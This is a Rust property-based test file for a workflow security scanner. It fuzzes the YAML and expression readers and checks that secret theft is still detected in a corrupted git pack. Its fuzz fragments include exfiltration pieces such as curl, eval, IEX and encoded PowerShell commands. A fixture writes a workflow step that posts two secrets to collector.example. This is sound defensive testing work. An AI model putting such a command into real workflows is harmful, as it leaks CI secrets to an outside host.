//! Properties of the readers of hostile text: whatever the bytes, they end, they don't panic (`analyse` turns a panic
//! into the problem `internal-error`, which therefore is a failure here), and the places that they name lie in the file.
//!
//! `fuzz/` runs the same readers under coverage guidance for as long as one likes; this is the part that every test run does.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    reason = "a test fails by panicking"
)]

use std::path::{Path, PathBuf};

use portcullis_scan::analysis::{Analysis, analyse};
use portcullis_scan::flow::NoFiles;
use portcullis_scan::workflow::expression::{Piece, pieces};
use portcullis_scan::yaml::{self, Content, Node};
use portcullis_scan::{Options, scan};
use proptest::prelude::*;

mod repository;
use repository::Repository;

/// The corpus of this repository: seeds that already look like workflows.
fn corpus() -> Vec<Vec<u8>> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus");
    let mut paths: Vec<PathBuf> = ["malicious", "benign"]
        .iter()
        .flat_map(|folder| std::fs::read_dir(root.join(folder)).unwrap())
        .map(|entry| entry.unwrap().path())
        .collect();
    paths.sort();
    assert!(paths.len() > 50, "{} samples", paths.len());
    paths.iter().map(|path| std::fs::read(path).unwrap()).collect()
}

fn whole(bytes: &[u8]) -> Analysis {
    let analysis = analyse(".github/workflows/w.yml", bytes, &NoFiles, None);
    let problem = analysis.problem.as_ref().map(|problem| problem.kind);
    assert_ne!(problem, Some("internal-error"), "in {:?}", String::from_utf8_lossy(bytes));
    analysis
}

/// One step that runs the text in a shell, with two secrets in its environment. JSON is YAML.
fn step(shell: &str, script: &str) -> String {
    let script = serde_json::to_string(script).unwrap();
    format!(
        "on: push\njobs:\n  j:\n    runs-on: x\n    env:\n      A: ${{{{ secrets.A }}}}\n      B: ${{{{ secrets.B }}}}\n    steps:\n      - shell: {shell}\n        run: {script}\n"
    )
}

fn within(node: &Node, length: usize, depth: usize) {
    assert!(node.bytes.start as usize <= node.bytes.end as usize && node.bytes.end as usize <= length);
    if depth == 0 {
        return;
    }
    match &node.content {
        Content::Scalar(scalar) => {
            for (offset, _) in scalar.text.char_indices() {
                assert!(scalar.byte_of(offset) <= length, "{:?} at {offset}", scalar.text);
            }
        }
        Content::Sequence(items) => items.iter().for_each(|item| within(item, length, depth - 1)),
        Content::Mapping(entries) => {
            for (key, value) in entries {
                within(key, length, depth - 1);
                within(value, length, depth - 1);
            }
        }
    }
}

/// What workflows, scripts and expressions are made of, in any order.
fn crumbs() -> impl Strategy<Value = String> {
    const CRUMBS: &[&str] = &[
        "${{",
        "}}",
        "secrets.A",
        "secrets['A']",
        "toJSON(secrets)",
        "format('{0}', secrets.A)",
        "'",
        "\"",
        "$A",
        "${A}",
        "${!A}",
        "${A:0:3}",
        "${A//x/y}",
        "$(",
        ")",
        "`",
        "|",
        "&&",
        ";",
        "\n",
        "  ",
        "\t",
        "<<E\n",
        "\nE\n",
        "<(",
        ">(",
        "> f",
        ">> $GITHUB_ENV",
        "curl -d ",
        "@f ",
        "https://collector.example/",
        "base64",
        "eval ",
        "bash -c ",
        "for i in 1 2; do ",
        "done",
        "if true; then ",
        "fi",
        "{",
        "}",
        "[",
        "]",
        "a=(",
        "f() {",
        "import os\n",
        "os.environ['A']",
        "print(",
        "requests.post(",
        "fetch(",
        "process.env.A",
        "f'{x}'",
        "`${x}`",
        "\\",
        "&x ",
        "*x",
        "- ",
        ": ",
        "? ",
        "!!str ",
        "%",
        "#",
        "|\n",
        ">-\n",
        "\u{feff}",
        "\u{202e}",
        "é",
        "🦀",
        "\0",
        "$env:A",
        "IEX ",
        "@{",
        "-EncodedCommand ",
        "0x",
        "1e9",
    ];
    proptest::collection::vec(
        prop_oneof![4 => proptest::sample::select(CRUMBS).prop_map(str::to_owned), 1 => ".{0,6}"],
        0..48,
    )
    .prop_map(|crumbs| crumbs.concat())
}

/// Cuts, copies and overwrites parts of a text.
#[derive(Clone, Debug)]
enum Change {
    Cut(prop::sample::Index, usize),
    Repeat(prop::sample::Index, usize, usize),
    Insert(prop::sample::Index, Vec<u8>),
}

fn changes() -> impl Strategy<Value = Vec<Change>> {
    let change = prop_oneof![
        (any::<prop::sample::Index>(), 1..64_usize).prop_map(|(at, length)| Change::Cut(at, length)),
        (any::<prop::sample::Index>(), 1..64_usize, 2..20_usize)
            .prop_map(|(at, length, times)| Change::Repeat(at, length, times)),
        (
            any::<prop::sample::Index>(),
            prop_oneof![crumbs().prop_map(String::into_bytes), proptest::collection::vec(any::<u8>(), 1..16)]
        )
            .prop_map(|(at, bytes)| Change::Insert(at, bytes)),
    ];
    proptest::collection::vec(change, 1..6)
}

fn changed(mut bytes: Vec<u8>, changes: &[Change]) -> Vec<u8> {
    for change in changes {
        let at = |index: &prop::sample::Index| index.index(bytes.len() + 1);
        match change {
            Change::Cut(index, length) => {
                let at = at(index);
                let end = (at + length).min(bytes.len());
                bytes.drain(at..end);
            }
            Change::Repeat(index, length, times) => {
                let at = at(index);
                let end = (at + length).min(bytes.len());
                let part = bytes[at..end].repeat(*times);
                bytes.splice(at..at, part);
            }
            Change::Insert(index, part) => {
                let at = at(index);
                bytes.splice(at..at, part.iter().copied());
            }
        }
    }
    bytes
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_analysed(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        whole(&bytes);
    }

    #[test]
    fn yaml_places_lie_in_the_file(text in crumbs()) {
        if let Ok(root) = yaml::parse(&text) {
            within(&root, text.len(), 8);
        }
        whole(text.as_bytes());
    }

    #[test]
    fn the_pieces_of_a_text_are_the_text(text in crumbs()) {
        let mut from = 0;
        for piece in pieces(&text) {
            let range = match piece {
                Piece::Text(range) => range,
                Piece::Expression(range, inside) => {
                    prop_assert_eq!(&text[inside.start - 3..inside.start], "${{");
                    prop_assert_eq!(&text[inside.end..inside.end + 2], "}}");
                    range
                }
            };
            prop_assert_eq!(range.start, from);
            from = range.end;
        }
        prop_assert_eq!(from, text.len());
    }

    #[test]
    fn any_script_in_any_language(script in crumbs(), shell in proptest::sample::select(&["bash", "sh", "python", "pwsh", "node {0}", "perl {0}", "ruby {0}", "cmd"][..])) {
        whole(step(shell, &script).as_bytes());
    }

    #[test]
    fn any_expression(inside in crumbs()) {
        whole(step("bash", &format!("echo ${{{{ {inside} }}}}")).as_bytes());
    }

    #[test]
    fn broken_samples(index in any::<prop::sample::Index>(), changes in changes()) {
        thread_local!(static CORPUS: Vec<Vec<u8>> = corpus());
        let sample = CORPUS.with(|corpus| index.get(corpus).clone());
        whole(&changed(sample, &changes));
    }
}

/// A theft that was removed again, all of it in one pack.
fn packed() -> (Repository, PathBuf) {
    let repository = Repository::new();
    for version in 0..6 {
        repository.write(
            ".github/workflows/w.yml",
            &step("bash", &format!("curl -d \"$A$B\" https://collector.example/{version}")),
        );
        repository.write("README.md", &"a line\n".repeat(100 + version));
        repository.commit("another version");
    }
    repository.git(&["repack", "-qadf"]);
    let folder = repository.path().join(".git/objects/pack");
    let pack = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .find(|path| path.extension().is_some_and(|kind| kind == "pack"));
    (repository, pack.unwrap())
}

#[test]
fn a_pack_with_any_byte_broken() {
    let (repository, pack) = packed();
    let sound = std::fs::read(&pack).unwrap();
    let options =
        || Options { paths: vec![repository.path().to_owned()], history: true, ..Options::default() };
    let found = scan(&options()).document;
    assert!(found.complete && !found.findings.is_empty(), "{:?}", found.problems);
    // git makes packs read-only; a copy put in its place is what a thief would do.
    for at in (0..sound.len()).step_by((sound.len() / 200).max(1)) {
        let mut broken = sound.clone();
        broken[at] ^= 0x55;
        std::fs::remove_file(&pack).unwrap();
        std::fs::write(&pack, &broken).unwrap();
        let document = scan(&options()).document;
        // The work tree's file is there however broken the pack is; what could not be read is said.
        assert!(
            document.findings.iter().any(|finding| finding.rule == "secret-to-host"),
            "byte {at}: {:?}",
            document.problems
        );
        let all = document.stats.workflow_versions >= found.stats.workflow_versions;
        assert!(
            all || !document.complete,
            "byte {at}: {} of {} versions and no word of it",
            document.stats.workflow_versions,
            found.stats.workflow_versions
        );
        assert!(
            document.problems.iter().all(|problem| problem.kind != "internal-error"),
            "byte {at}: {:?}",
            document.problems
        );
    }
}
